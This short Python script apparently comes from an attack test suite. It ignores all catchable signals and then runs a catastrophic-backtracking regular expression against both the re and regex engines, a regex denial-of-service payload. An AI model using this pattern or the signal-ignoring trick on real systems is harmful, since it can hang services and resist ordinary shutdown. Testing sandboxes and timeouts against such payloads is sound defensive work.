import re
import signal

import regex
from attack import *

for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)


@at_call
def search():
    for engine in (re, regex):
        engine.match(r"((a|aa|b?)+)+$", "a" * 60 + "!")
